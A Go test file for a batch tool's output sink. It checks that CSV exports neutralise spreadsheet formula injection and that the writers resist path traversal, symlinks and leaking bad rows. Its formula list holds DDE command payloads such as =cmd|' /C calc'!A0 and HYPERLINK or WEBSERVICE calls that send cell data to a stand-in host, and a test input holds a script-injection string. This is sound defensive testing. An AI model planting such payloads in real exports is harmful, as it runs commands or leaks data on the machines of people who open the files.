package sink

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/batchwright/batchwright/internal/batch"
)

// formulas are cells that a spreadsheet would run, each in many disguises.
func formulas() []string {
	bodies := []string{
		`=1+1`, `=SUM(A1:A9)`, `=HYPERLINK("http://x.example/?"&A1,"open")`, `=cmd|' /C calc'!A0`, `=IMPORTXML("http://x.example","//a")`,
		`=WEBSERVICE("http://x.example/")`, `=DDE("cmd";"/C calc";"x")`, `+1+1`, `+cmd|' /C calc'!A0`, `-1+1`, `-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, `@A1`, "\t=1+1", "\r=1+1", "\n=1+1", `＝1+1`, `＋1`, `－1`, `＠SUM(A1)`, `﹦1+1`, `﹢1`, `﹣1`, `﹫A1`, `−1`,
	}
	var out []string
	for _, b := range bodies {
		for _, lead := range []string{"", " ", "\ufeff", "\u200b", "\x00", "\u00a0 \u200e"} {
			out = append(out, lead+b)
		}
	}
	return out
}

func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	cells := formulas()
	if len(cells) < 100 {
		t.Fatalf("only %d cells", len(cells))
	}
	for _, schema := range []string{"", `{"type":"object","properties":{"a":{"type":"string"},"b":{"type":"array"},"c":{"type":"number"}}}`} {
		var r fixed
		for i, c := range cells {
			var out any = c
			if schema != "" {
				out = map[string]any{"a": c, "b": []string{c}, "c": -1.5, "d": c}
			}
			raw, err := json.Marshal(out)
			if err != nil {
				t.Fatal(err)
			}
			r.outcomes = append(r.outcomes, batch.Outcome{Ordinal: batch.Ordinal(i), ID: c, State: batch.ItemOK, Class: batch.ClassOK, Output: raw, Model: c, Finish: c, CopyOf: c})
		}
		dir := t.TempDir()
		o := options("csv")
		o.Schema = []byte(schema)
		writeTo(t, dir, r, o)
		f, err := os.Open(filepath.Join(dir, ResultsCSV))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		lines, err := csv.NewReader(f).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(lines) != len(cells)+1 {
			t.Fatalf("%d lines for %d items", len(lines), len(cells))
		}
		for _, line := range lines[1:] {
			for col, v := range line {
				if v == "-1.5" && lines[0][col] == "output_c" {
					continue // a number is typed, and stays one
				}
				if first := strings.TrimLeft(v, " \ufeff\u200b\x00\u00a0\u200e"); first != "" && strings.ContainsAny(first[:1]+string([]rune(first)[0]), formulaStart) {
					t.Errorf("column %s: %q could run", lines[0][col], v)
				}
			}
		}
	}
}

func TestHarmlessCellsStayAsTheyAre(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"", "a=b", "1-2", "text", "'quoted", "{\"a\":1}", "ünï = x", "  padded", "a\n=b"} {
		if got := safe(s); got != s {
			t.Errorf("safe(%q) = %q", s, got)
		}
	}
}

func TestJSONKeepsWhatWasAnswered(t *testing.T) {
	t.Parallel()
	texts := []string{"</script><script>alert(1)</script>", "\u2028\u2029", "quote \" back \\ slash", "\x00\x1b[31m", "emoji 🙂 and \u202e rtl", strings.Repeat("long ", 50_000)}
	var r fixed
	for i, s := range texts {
		raw, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		r.outcomes = append(r.outcomes, batch.Outcome{Ordinal: batch.Ordinal(i), ID: s[:min(len(s), 40)], State: batch.ItemOK, Class: batch.ClassOK, Output: raw})
	}
	dir := t.TempDir()
	writeTo(t, dir, r, options())
	lines := strings.Split(strings.TrimSuffix(folder(t, dir)[ResultsJSONL], "\n"), "\n")
	if len(lines) != len(texts) {
		t.Fatalf("%d lines for %d items", len(lines), len(texts))
	}
	for i, l := range lines {
		var got struct{ ID, Output string }
		if err := json.Unmarshal([]byte(l), &got); err != nil || got.Output != texts[i] || got.ID != texts[i][:min(len(texts[i]), 40)] {
			t.Errorf("line %d does not give back %.40q: %v", i, texts[i], err)
		}
	}
}

func TestBadRowsAreRefused(t *testing.T) {
	t.Parallel()
	ok := func(n batch.Ordinal) batch.Outcome {
		return batch.Outcome{Ordinal: n, ID: "x", State: batch.ItemOK, Class: batch.ClassOK, Output: json.RawMessage(`"SECRET"`)}
	}
	cases := map[string][]batch.Outcome{
		"twice":    {ok(0), ok(0)},
		"order":    {ok(1), ok(0)},
		"pending":  {{Ordinal: 0, ID: "p", State: batch.ItemPending}},
		"no state": {{Ordinal: 0, ID: "p"}},
		"not json": {{Ordinal: 0, ID: "p", State: batch.ItemOK, Output: json.RawMessage(`SECRET{`)}},
	}
	for name, outs := range cases {
		dir := t.TempDir()
		f, err := OpenFolder(dir)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		_, err = Write(t.Context(), f, fixed{outcomes: outs}, options("csv", "parquet"))
		if batch.KindOf(err) != batch.Internal || strings.Contains(err.Error(), "SECRET") {
			t.Errorf("%s: error %v", name, err)
		}
		if got := folder(t, dir); len(got) != 0 {
			t.Errorf("%s: left %d files", name, len(got))
		}
	}
}

func TestOptionsAreChecked(t *testing.T) {
	t.Parallel()
	f, err := OpenFolder(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := Write(t.Context(), f, fixed{}, options("xlsx")); batch.KindOf(err) != batch.Invalid || batch.HintOf(err) == "" {
		t.Errorf("unknown format: %v", err)
	}
	for _, s := range batch.RunStates() {
		o := options()
		o.State = s
		_, err := Write(t.Context(), f, fixed{}, o)
		if want := s.Ended() && s != batch.RunRejected; (err == nil) != want {
			t.Errorf("state %s: %v", s, err)
		}
	}
}

func TestFolderKeepsInside(t *testing.T) {
	t.Parallel()
	outside := t.TempDir()
	dir := t.TempDir()
	f, err := OpenFolder(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, name := range []string{"", ".", "..", "../x", "/etc/x", `a\b`, "a/b"} {
		if _, err := f.Create(t.Context(), name); err == nil {
			t.Errorf("Create(%q) was allowed", name)
		}
		if err := f.Remove(t.Context(), name); err == nil {
			t.Errorf("Remove(%q) was allowed", name)
		}
	}
	// A link in place of an output is replaced, never followed.
	victim := filepath.Join(outside, "victim")
	if err := os.WriteFile(victim, []byte("mine"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(victim, filepath.Join(dir, ResultsJSONL)); err != nil {
		t.Fatal(err)
	}
	if _, err := Write(t.Context(), f, sample(), options()); err != nil {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(victim); err != nil || string(b) != "mine" {
		t.Errorf("the link's target was written: %q %v", b, err)
	}
}

// shelf is an object store in memory.
type shelf struct {
	objects map[string]string
	fail    string
}

func (s *shelf) Put(_ context.Context, key string, r io.Reader, contentType string) error {
	b, err := io.ReadAll(r)
	if err != nil {
		return err
	}
	if (contentType == "text/html; charset=utf-8") != strings.HasSuffix(key, ".html") {
		return errors.New("content type " + contentType)
	}
	if strings.HasSuffix(key, s.fail) && s.fail != "" {
		return errors.New("503")
	}
	s.objects[key] = string(b)
	return nil
}

func (s *shelf) Delete(_ context.Context, key string) error {
	if _, there := s.objects[key]; !there {
		return &batch.Error{Kind: batch.NotFound, Msg: "no such object"}
	}
	delete(s.objects, key)
	return nil
}

func TestBucketHoldsTheSameBytes(t *testing.T) {
	t.Parallel()
	dir, spool := t.TempDir(), t.TempDir()
	writeTo(t, dir, sample(), options("csv", "parquet"))
	s := &shelf{objects: map[string]string{"runs/1/_SUCCESS": "old"}}
	if _, err := Write(t.Context(), NewBucket(s, "runs/1/", spool), sample(), options("csv", "parquet")); err != nil {
		t.Fatal(err)
	}
	for name, b := range folder(t, dir) {
		if s.objects["runs/1/"+name] != b {
			t.Errorf("%s differs from the folder's", name)
		}
	}
	s.fail = ResultsCSV
	if _, err := Write(t.Context(), NewBucket(s, "runs/1/", spool), sample(), options("csv", "parquet")); err == nil {
		t.Error("a failed upload was not reported")
	}
	if _, there := s.objects["runs/1/_SUCCESS"]; there {
		t.Error("_SUCCESS stands after a failed upload")
	}
	if left := folder(t, spool); len(left) != 0 {
		t.Errorf("%d files left in the spool", len(left))
	}
}
